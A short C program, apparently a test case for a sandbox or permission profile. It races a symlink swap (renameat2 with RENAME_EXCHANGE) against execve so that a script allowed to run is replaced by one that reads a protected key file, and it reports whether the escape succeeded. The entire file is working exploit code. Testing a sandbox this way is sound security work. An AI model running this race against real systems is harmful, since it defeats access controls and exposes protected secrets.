// The way to the rights of another profile is by a certain script. A link to it is
// called, and leads elsewhere by the time that the interpreter opens it.
#include "attack.h"

static void flip(void)
{
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, "work/tool", AT_FDCWD, "work/other", 2 /* RENAME_EXCHANGE */);
}

int main(int argc, char **argv)
{
	long n = tries(argc, argv), ran = 0;
	honest();
	must(mkdir("work", 0755));
	put("work/mine", "#!/bin/sh\nread x <secret/key && exit 42\nexit 43\n");
	must(chmod("work/mine", 0755));
	must(symlink("../secret/good.sh", "work/tool"));
	must(symlink("mine", "work/other"));
	char *args[] = {"tool", NULL};
	pid_t pid = must(vfork());
	if (pid == 0) {
		char own[4200];
		if (getcwd(own, 4096) == NULL)
			_exit(LOST);
		strcat(own, "/secret/good.sh");
		execve(own, args, args + 1);
		_exit(LOST);
	}
	if (exited(pid) != 0)
		broken("the allowed script does not run");
	if (helper() == 0)
		flip();
	for (long i = 0; i < n; i++) {
		pid = must(vfork());
		if (pid == 0) {
			execve("work/tool", args, args + 1);
			_exit(LOST);
		}
		int got = exited(pid);
		ran += got == 0;
		if (got == 42)
			won("execve %ld", i);
	}
	lost("0 of %ld, %ld others", n, ran);
}
